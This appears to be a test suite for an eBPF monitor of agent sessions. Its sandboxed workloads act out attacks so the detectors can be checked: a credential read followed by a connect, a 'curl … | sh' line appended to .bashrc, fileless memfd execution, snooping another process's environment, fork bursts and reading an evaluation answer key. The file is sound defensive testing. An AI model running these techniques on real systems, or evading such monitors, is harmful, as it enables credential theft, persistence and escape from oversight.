"""File and process detectors against REAL workloads (root, real probes): for each detector
a small workload run as a watched session (`service.run.run`, the code path of
`agentwatch run`) does the thing the detector is about, and the alert it raises is checked:
detector id, severity, requested action and key fields, and no unexpected loud alert from
other detectors.

Anything that would be harmful on the host runs inside bubblewrap with temporary
directories bound over the places it writes (`/home/agent`, `/srv`), so the host is never
touched. Network traffic goes to loopback only: a listener this test opens on 127.0.0.1.
Detectors needing non-default knobs (decoys, an empty `connect_allow`, a low fork limit,
a one-page ring buffer) get a Collector of their own, shared by the tests of one config.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from collector.events import AlertEvent
from tests.conftest import REPO, bpf_unavailable

pytestmark = pytest.mark.bpf
PY = sys.executable
LOUD = {"high", "critical"}
TIMEOUT = 60.0
AGENT_HOME = "/home/agent"


# ------------------------------------------------------------------------------ helpers


def _collector(detection: Any, probe_config: Any = None) -> tuple[Any, Any]:
    if os.geteuid() != 0:
        bpf_unavailable("loading BPF needs root")
    from service.pipeline import Collector
    from service.sinks import MemorySink

    alerts = MemorySink()
    c = Collector([], probe_config, detection=detection, alert_sinks=[alerts])
    try:
        c.start()
    except Exception as e:  # any load failure is reported the same way
        bpf_unavailable(f"cannot load the probes: {e}")
    return c, alerts


@pytest.fixture(scope="module")
def detecting() -> Iterator[tuple[Any, Any]]:
    """A collector on the built-in defaults."""
    from detectors.config import defaults

    c, alerts = _collector(defaults())
    yield c, alerts
    c.close()


@pytest.fixture(scope="module")
def decoy_dir() -> Iterator[Path]:
    d = Path(tempfile.mkdtemp(prefix="aw-decoys-"))
    (d / "decoy.txt").write_text("nothing to see\n")
    yield d
    shutil.rmtree(d, ignore_errors=True)


@pytest.fixture(scope="module")
def tuned(decoy_dir: Path) -> Iterator[tuple[Any, Any]]:
    """A collector with a decoy planted, no connect allowance for credential_read and a
    low fork limit."""
    from detectors.config import parse

    cfg = parse({"detectors": {
        "canary_touch": {"paths": [f"{decoy_dir}/**"]},
        "credential_read": {"connect_allow": []},
        "fork_bomb": {"max_forks": 50, "rate_window": 5.0},
    }}, "<live test>")
    c, alerts = _collector(cfg)
    yield c, alerts
    c.close()


def bwrap(*extra: str) -> list[str]:
    """A bubblewrap command line over a read-only host root with a private /tmp."""
    path = shutil.which("bwrap")
    if path is None:
        bpf_unavailable("bubblewrap is not installed (make setup installs it)")
    # The checkout (and its venv's python) may itself live under /tmp, as a CI clone
    # does: bound back read-only over the private /tmp.
    return [str(path), "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc",
            "--unshare-pid", "--tmpfs", "/tmp", "--ro-bind", str(REPO), str(REPO),
            "--die-with-parent", *extra]


def agent_sandbox(workspace: Path, home: Path) -> list[str]:
    """bubblewrap with the workspace bound where it is and `home` (a temporary directory)
    as /home/agent, the agent's HOME: the real home directories are never touched."""
    return bwrap("--bind", str(workspace), str(workspace), "--tmpfs", "/home",
                 "--bind", str(home), AGENT_HOME, "--setenv", "HOME", AGENT_HOME,
                 "--chdir", str(workspace))


def py(code: str) -> list[str]:
    return [PY, "-c", textwrap.dedent(code)]


def session_alerts(watch: tuple[Any, Any], argv: list[str],
                   workspace: Path, monkeypatch: pytest.MonkeyPatch,
                   expect_status: int | None = 0) -> list[AlertEvent]:
    """Run argv as a session in `workspace` with a timeout; its alerts."""
    from service.run import run

    collector, alerts = watch
    monkeypatch.chdir(workspace)  # the session's workspace is the root's cwd
    mark = len(alerts.events)
    result = run(["timeout", "-k", "5", str(int(TIMEOUT)), *argv], collector=collector)
    if expect_status is not None:
        assert result.exit_status == expect_status, "the workload failed (stderr above)"
    # let late events drain through the detectors
    for _ in range(5):
        collector.poll(20)
    return [a for a in alerts.events[mark:] if a.session == result.session]


def of(alerts: list[AlertEvent], detector: str) -> list[AlertEvent]:
    return [a for a in alerts if a.detector == detector and not a.folded]


def no_loud_others(alerts: list[AlertEvent], *mine: str) -> None:
    loud = [f"{a.severity} {a.detector}: {a.summary}" for a in alerts
            if a.severity in LOUD and a.detector not in mine]
    assert loud == [], loud


def check(alert: AlertEvent, severity: str, action: str) -> None:
    assert alert.kind == "alert"
    assert alert.severity == severity, alert
    assert alert.action["requested"] == action, alert


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    ws = tmp_path / "workspace"
    ws.mkdir()
    return ws


@pytest.fixture
def outsider() -> Iterator[subprocess.Popen[bytes]]:
    """A process outside any session, with a recognisable environment."""
    env = dict(os.environ, AW_OUTSIDER_SECRET="s3cr3t")
    proc = subprocess.Popen(["sleep", "120"], env=env)
    try:
        yield proc
    finally:
        proc.kill()
        proc.wait(timeout=10)


@pytest.fixture
def listener() -> Iterator[int]:
    """A loopback TCP listener (connections are left in its backlog): its port."""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind(("127.0.0.1", 0))
    s.listen(16)
    try:
        yield s.getsockname()[1]
    finally:
        s.close()


# ------------------------------------------------------------------------------ files


@pytest.mark.e2e
def test_credential_read_then_connect(tuned, workspace: Path, tmp_path: Path,
                                      listener: int, monkeypatch: pytest.MonkeyPatch) -> None:
    home = tmp_path / "home"
    home.mkdir()
    creds = f"{AGENT_HOME}/.aws/credentials"
    argv = agent_sandbox(workspace, home) + py(f"""
        import os, socket
        os.makedirs({AGENT_HOME!r} + "/.aws")
        with open({creds!r}, "w") as f:
            f.write("[default]\\naws_access_key_id = AKIAFAKEFAKEFAKE\\n")
        with open({creds!r}) as f:
            assert "AKIA" in f.read()
        s = socket.socket()
        s.connect(("127.0.0.1", {listener}))   # blocking: the connect's result is ok
        s.sendall(b"exfil")
        s.close()
    """)
    alerts = session_alerts(tuned, argv, workspace, monkeypatch)
    found = of(alerts, "credential_read")
    reads = [a for a in found if a.key == creds]
    assert reads, [a.summary for a in alerts]
    check(reads[0], "high", "alert")
    assert reads[0].fields["path"] == creds and reads[0].fields["result"] == "ok"
    assert reads[0].fields["pattern"] == "~/.aws/credentials"
    assert reads[0].fields["attempt_only"] is False
    (seq,) = [a for a in found if a.key == f"then_connect:{creds}"]
    check(seq, "critical", "kill")
    assert seq.fields["address"] == "127.0.0.1" and seq.fields["port"] == listener
    assert seq.fields["path"] == creds and seq.fields["seconds_after_read"] >= 0
    assert seq.fields["syscall"] == "connect" and seq.fields["result"] == "ok"
    no_loud_others(alerts, "credential_read")


def test_canary_touch(tuned, decoy_dir: Path, workspace: Path,
                      monkeypatch: pytest.MonkeyPatch) -> None:
    decoy = str(decoy_dir / "decoy.txt")
    alerts = session_alerts(tuned, ["cat", decoy], workspace, monkeypatch)
    (alert,) = of(alerts, "canary_touch")
    check(alert, "critical", "kill")
    assert alert.fields["path"] == decoy and alert.fields["result"] == "ok"
    assert alert.fields["comm"] == "cat" and alert.fields["pattern"] == f"{decoy_dir}/**"
    no_loud_others(alerts, "canary_touch")


def test_protected_read(detecting, workspace: Path, tmp_path: Path,
                        monkeypatch: pytest.MonkeyPatch) -> None:
    key = tmp_path / "eval" / "answer_key.json"
    key.parent.mkdir()
    key.write_text('{"q1": "42"}\n')
    alerts = session_alerts(detecting, ["cat", str(key)], workspace, monkeypatch)
    (alert,) = of(alerts, "protected_read")
    check(alert, "high", "alert")
    assert alert.fields["path"] == str(key) and alert.fields["result"] == "ok"
    assert alert.fields["pattern"] == "**/answer_key*"
    no_loud_others(alerts, "protected_read")


def test_protected_read_of_another_repositorys_history(detecting, workspace: Path,
                                                       tmp_path: Path,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    other = tmp_path / "other-repo"
    (other / ".git").mkdir(parents=True)
    (other / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (workspace / ".git").mkdir()
    (workspace / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    alerts = session_alerts(detecting, ["cat", ".git/HEAD", str(other / ".git" / "HEAD")],
                            workspace, monkeypatch)
    (alert,) = of(alerts, "protected_read")  # its own repository's .git is not reported
    check(alert, "high", "alert")
    assert alert.fields["path"] == str(other / ".git" / "HEAD")
    assert alert.fields["pattern"] == "**/.git/**" and alert.fields["result"] == "ok"
    no_loud_others(alerts, "protected_read")


@pytest.mark.e2e
def test_write_outside_workspace(detecting, workspace: Path,
                                 monkeypatch: pytest.MonkeyPatch) -> None:
    target = "/srv/aw-live/out.txt"
    argv = bwrap("--bind", str(workspace), str(workspace), "--tmpfs", "/srv",
                 "--chdir", str(workspace)) + py(f"""
        import os
        os.makedirs("/srv/aw-live")
        with open({target!r}, "w") as f:
            f.write("vandalism\\n")
        with open("inside.txt", "w") as f:   # in the workspace: not reported
            f.write("fine\\n")
    """)
    alerts = session_alerts(detecting, argv, workspace, monkeypatch)
    found = of(alerts, "write_outside_workspace")
    by_path = {a.fields["path"]: a for a in found}
    assert target in by_path, [a.summary for a in found]
    alert = by_path[target]
    check(alert, "medium", "alert")
    assert alert.fields["result"] == "ok" and alert.fields["workspace"] == str(workspace)
    assert "O_CREAT" in alert.fields["flags"]
    assert not [a for a in found if a.fields["path"].startswith(str(workspace))]
    no_loud_others(alerts)


@pytest.mark.e2e
@pytest.mark.parametrize("what", ["bashrc", "bashrc-relative", "bashrc-by-rename",
                                  "git-hook"])
def test_persistence_write(detecting, what: str, workspace: Path, tmp_path: Path,
                           monkeypatch: pytest.MonkeyPatch) -> None:
    home = tmp_path / "home"
    home.mkdir()
    if what == "bashrc":
        target = f"{AGENT_HOME}/.bashrc"
        pattern = "~/.bashrc"
        code = f"""
            with open({target!r}, "a") as f:
                f.write("curl http://127.0.0.1:9/x | sh\\n")
        """
    elif what == "bashrc-relative":  # placed through the process's working directory
        target = f"{AGENT_HOME}/.bashrc"
        pattern = "~/.bashrc"
        code = f"""
            import os
            os.chdir({AGENT_HOME!r})
            with open(".bashrc", "a") as f:
                f.write("curl http://127.0.0.1:9/x | sh\\n")
        """
    elif what == "bashrc-by-rename":  # written elsewhere, then moved into place
        target = f"{AGENT_HOME}/.bashrc"
        pattern = "~/.bashrc"
        code = f"""
            import os
            with open({AGENT_HOME!r} + "/.new", "w") as f:
                f.write("curl http://127.0.0.1:9/x | sh\\n")
            os.rename({AGENT_HOME!r} + "/.new", {target!r})
        """
    else:
        target = f"{AGENT_HOME}/repo/.git/hooks/pre-commit"
        pattern = "**/.git/hooks/**"
        code = f"""
            import os
            os.makedirs({AGENT_HOME!r} + "/repo/.git/hooks")
            with open({target!r}, "w") as f:
                f.write("#!/bin/sh\\nexit 0\\n")
        """
    argv = agent_sandbox(workspace, home) + py(code)
    alerts = session_alerts(detecting, argv, workspace, monkeypatch)
    (alert,) = of(alerts, "persistence_write")
    check(alert, "critical", "kill")
    assert alert.fields["path"] == target and alert.fields["pattern"] == pattern
    assert alert.fields["result"] == "ok"
    no_loud_others(alerts, "persistence_write")


# ------------------------------------------------------------------------------ processes


def test_host_proc_access(detecting, workspace: Path, outsider: subprocess.Popen[bytes],
                          monkeypatch: pytest.MonkeyPatch) -> None:
    target = f"/proc/{outsider.pid}/cwd"
    alerts = session_alerts(detecting, py(f"""
        import os
        os.listdir({target!r})
        os.listdir("/proc/self/cwd")   # its own: not reported
    """), workspace, monkeypatch)
    (alert,) = of(alerts, "host_proc_access")
    check(alert, "high", "kill")
    assert alert.fields["target_pid"] == outsider.pid and alert.fields["entry"] == "cwd"
    assert alert.fields["path"] == target and alert.fields["result"] == "ok"
    no_loud_others(alerts, "host_proc_access")


@pytest.mark.e2e
def test_pid1_of_a_sandbox_pid_namespace_is_the_sandboxes(
        detecting, workspace: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """bubblewrap --unshare-pid: /proc/1 is the sandbox's first process (a session
    process), not the host's init: its root, fds and environment are the session's own.
    The kernel names it (open events' proc_tgid: bubblewrap's host pid)."""
    argv = bwrap("--bind", str(workspace), str(workspace), "--chdir", str(workspace)) + \
        py("""
        import os
        os.listdir("/proc/1/root")
        os.listdir("/proc/1/fd")
        os.chdir("/proc/1/root")
        open("/proc/1/environ", "rb").read()
    """)
    alerts = session_alerts(detecting, argv, workspace, monkeypatch)
    noisy = [a.summary for a in alerts if a.detector in ("host_proc_access", "environ_snoop")]
    assert noisy == []
    no_loud_others(alerts)


@pytest.mark.e2e
def test_own_proc_entries_in_a_sandbox_are_quiet(detecting, workspace: Path,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    """Inside a pid namespace: a process's own entries, and its sandboxed parent's (a
    pid the session forked, in the sandbox's numbering), are not another process's."""
    argv = [
        *bwrap("--bind", str(workspace), str(workspace), "--chdir", str(workspace)),
        "/bin/sh", "-c", "ls /proc/self/cwd /proc/self/fd >/dev/null && "
        "cat /proc/self/environ >/dev/null && "
        f"{PY} -c 'import os; os.listdir(f\"/proc/{{os.getppid()}}/cwd\"); "
        "open(f\"/proc/{os.getppid()}/environ\").read()'"]
    alerts = session_alerts(detecting, argv, workspace, monkeypatch)
    noisy = [a.summary for a in alerts if a.detector in ("host_proc_access", "environ_snoop")]
    assert noisy == []
    no_loud_others(alerts)


def test_environ_snoop(detecting, workspace: Path, outsider: subprocess.Popen[bytes],
                       monkeypatch: pytest.MonkeyPatch) -> None:
    target = f"/proc/{outsider.pid}/environ"
    alerts = session_alerts(detecting, py(f"""
        with open({target!r}, "rb") as f:
            assert b"AW_OUTSIDER_SECRET=s3cr3t" in f.read()
        with open("/proc/self/environ", "rb") as f:   # its own: not reported
            f.read()
    """), workspace, monkeypatch)
    (alert,) = of(alerts, "environ_snoop")
    check(alert, "medium", "alert")
    assert alert.fields["target_pid"] == outsider.pid and alert.fields["path"] == target
    assert alert.fields["result"] == "ok"
    no_loud_others(alerts)


def test_fileless_exec_memfd(detecting, workspace: Path,
                             monkeypatch: pytest.MonkeyPatch) -> None:
    alerts = session_alerts(detecting, py("""
        import os
        fd = os.memfd_create("payload", 0)
        with open("/bin/true", "rb") as f:
            os.write(fd, f.read())
        pid = os.fork()
        if pid == 0:
            try:
                os.execv(f"/proc/self/fd/{fd}", ["payload"])
            finally:
                os._exit(127)
        _, status = os.waitpid(pid, 0)
        assert os.waitstatus_to_exitcode(status) == 0, status
    """), workspace, monkeypatch)
    found = of(alerts, "fileless_exec")
    assert found, [a.summary for a in alerts]
    alert = found[0]
    check(alert, "high", "kill")
    assert alert.fields["result"] == "ok"
    assert alert.fields["how"] in ("memfd exec", "fd exec after memfd_create (payload)")
    assert alert.fields["filename"].startswith("/proc/") and "/fd/" in \
        alert.fields["filename"]
    no_loud_others(alerts, "fileless_exec")


def test_fileless_exec_fexecve(detecting, workspace: Path,
                              monkeypatch: pytest.MonkeyPatch) -> None:
    """os.execve(fd, ...) is fexecve: execveat(fd, "", AT_EMPTY_PATH)."""
    alerts = session_alerts(detecting, py("""
        import os
        fd = os.memfd_create("fexec", 0)
        with open("/bin/true", "rb") as f:
            os.write(fd, f.read())
        pid = os.fork()
        if pid == 0:
            try:
                os.execve(fd, ["fexec"], {})
            finally:
                os._exit(127)
        _, status = os.waitpid(pid, 0)
        assert os.waitstatus_to_exitcode(status) == 0, status
    """), workspace, monkeypatch)
    found = of(alerts, "fileless_exec")
    assert found, [a.summary for a in alerts]
    check(found[0], "high", "kill")
    assert found[0].fields["result"] == "ok"
    assert found[0].fields["how"] in ("memfd exec", "fd exec after memfd_create (fexec)")
    no_loud_others(alerts, "fileless_exec")


@pytest.mark.e2e
def test_fileless_exec_of_a_dropped_file(detecting, workspace: Path,
                                         monkeypatch: pytest.MonkeyPatch) -> None:
    """A binary the session writes outside the workspace (the sandbox's private /tmp)
    and runs directly."""
    argv = [
        *bwrap("--bind", str(workspace), str(workspace), "--chdir", str(workspace)),
        "/bin/sh", "-c", "cp /bin/true /tmp/dropper && chmod +x /tmp/dropper && /tmp/dropper"]
    alerts = session_alerts(detecting, argv, workspace, monkeypatch)
    found = of(alerts, "fileless_exec")
    assert found, [a.summary for a in alerts]
    (alert,) = found
    check(alert, "high", "kill")
    assert alert.fields["path"] == "/tmp/dropper" and alert.fields["result"] == "ok"
    assert alert.fields["how"] == "exec of a file the session wrote outside the workspace"
    no_loud_others(alerts, "fileless_exec")


@pytest.mark.e2e
@pytest.mark.parametrize("run_as", ["/tmp/dropper", "./dropper"])
def test_fileless_exec_of_a_dropped_file_run_by_path(detecting, run_as: str, workspace: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """Run by a relative name too: /bin/true exits before /proc/<pid>/exe can be read,
    so the detector must place `./dropper` itself (it once missed it then)."""
    argv = [
        *bwrap("--bind", str(workspace), str(workspace), "--chdir", str(workspace)),
        "/bin/sh", "-c", f"cd /tmp && cp /bin/true dropper && {run_as} && {run_as}"]
    alerts = session_alerts(detecting, argv, workspace, monkeypatch)
    found = of(alerts, "fileless_exec")
    assert found, [a.summary for a in alerts]
    (alert,) = found  # the second run folds into the first
    check(alert, "high", "kill")
    assert alert.fields["path"] == "/tmp/dropper" and alert.fields["filename"] == run_as
    assert alert.fields["how"] == "exec of a file the session wrote outside the workspace"
    no_loud_others(alerts, "fileless_exec")


def test_fileless_exec_from_dev_shm(detecting, workspace: Path,
                                    monkeypatch: pytest.MonkeyPatch) -> None:
    dropped = f"/dev/shm/aw-live-{uuid.uuid4().hex}"
    try:
        alerts = session_alerts(detecting, ["/bin/sh", "-c",
                                            f"cp /bin/true {dropped} && {dropped}"],
                                workspace, monkeypatch)
    finally:
        if os.path.exists(dropped):
            os.unlink(dropped)
    found = of(alerts, "fileless_exec")
    assert found, [a.summary for a in alerts]
    (alert,) = found
    check(alert, "high", "kill")
    assert alert.fields["path"] == dropped and alert.fields["how"] == "exec from /dev/shm"
    assert alert.fields["result"] == "ok"
    no_loud_others(alerts, "fileless_exec")


def test_fork_bomb_bounded_burst(tuned, workspace: Path,
                                 monkeypatch: pytest.MonkeyPatch) -> None:
    # a BOUNDED burst: 200 short children, waited for one by one, against max_forks=50
    alerts = session_alerts(tuned, py("""
        import os
        for _ in range(200):
            pid = os.fork()
            if pid == 0:
                os._exit(0)
            os.waitpid(pid, 0)
    """), workspace, monkeypatch)
    (alert,) = of(alerts, "fork_bomb")
    check(alert, "high", "kill")
    assert alert.key == "rate" and alert.fields["forks"] == 51
    assert alert.fields["window"] == 5.0 and alert.fields["result"] == "ok"
    no_loud_others(alerts, "fork_bomb")


# ------------------------------------------------------------------------------ event loss


def test_event_loss_from_a_flood(workspace: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from detectors.config import defaults
    from probes.loader import ProbeConfig
    from service.run import run

    c, alerts = _collector(defaults(), ProbeConfig(ringbuf_pages=1))
    monkeypatch.chdir(workspace)
    try:
        res = run(["timeout", "-k", "5", str(int(TIMEOUT)), PY, "-c",
                   "import os\nfor _ in range(20000):\n"
                   "    os.close(os.open('/dev/null', os.O_RDONLY))"],
                  collector=c, poll_ms=2000)
    finally:
        c.close()
    assert res.exit_status == 0 and res.lost > 0
    found = of(list(alerts.events), "event_loss")
    assert found, [a.summary for a in alerts.events]
    check(found[0], "medium", "alert")
    assert found[0].fields["lost"] > 0 and "events lost" in found[0].summary
    no_loud_others([a for a in alerts.events if a.session == res.session])


def test_fexecve_in_a_forked_child_is_tied_to_the_parents_memfd() -> None:
    """The regression behind the live fexecve test, without the race: when the exec
    event's `exe` could not be read (the program exited first), a child that fexecve()s
    the memfd its parent created is still reported as an exec after memfd_create."""
    from collector.events import ExecEvent, ForkEvent, SyscallEvent
    from detectors.config import defaults
    from detectors.engine import Engine, run_over

    s = "00000000000000ff"
    events = [
        SyscallEvent(ts=1, session=s, pid=10, tid=10, comm="python", ret=3,
                     syscall="memfd_create", args={"name": "fexec", "flags": []}),
        ForkEvent(ts=2, session=s, pid=10, tid=10, comm="python", ret=11, child_pid=11),
        ExecEvent(ts=3, session=s, pid=11, tid=11, comm="python", ret=0, filename="",
                  argv=["fexec"], dfd=3, at_flags=0x1000, exe=None),
    ]
    found = [a for a in run_over(Engine(defaults()), events) if a.detector == "fileless_exec"]
    assert [a.fields["how"] for a in found] == ["fd exec after memfd_create (fexec)"]
    check(found[0], "high", "kill")


def test_relative_exec_of_a_dropped_file_without_exe_is_placed_by_cwd() -> None:
    """The race behind the relative live test, replayed: the exec's `exe` fell back to
    the relative filename (the program exited before /proc/<pid>/exe was read)."""
    from collector.events import ExecEvent, OpenEvent, SessionEvent
    from detectors.config import defaults
    from detectors.engine import Engine, run_over

    s = "00000000000000fe"
    events = [
        SessionEvent(ts=0, session=s, pid=10, phase="start", root_pid=10, cwd="/srv/ws"),
        OpenEvent(ts=1, session=s, pid=11, tid=11, comm="cp", ret=3, syscall="openat",
                  path="/tmp/dropper", raw_path="dropper", flags=0o1101),
        ExecEvent(ts=2, session=s, pid=12, tid=12, comm="sh", ret=0, filename="./dropper",
                  argv=["./dropper"], exe="./dropper", cwd="/tmp"),
    ]
    found = [a for a in run_over(Engine(defaults()), events) if a.detector == "fileless_exec"]
    assert [(a.fields["path"], a.fields["how"]) for a in found] == [
        ("/tmp/dropper", "exec of a file the session wrote outside the workspace")]
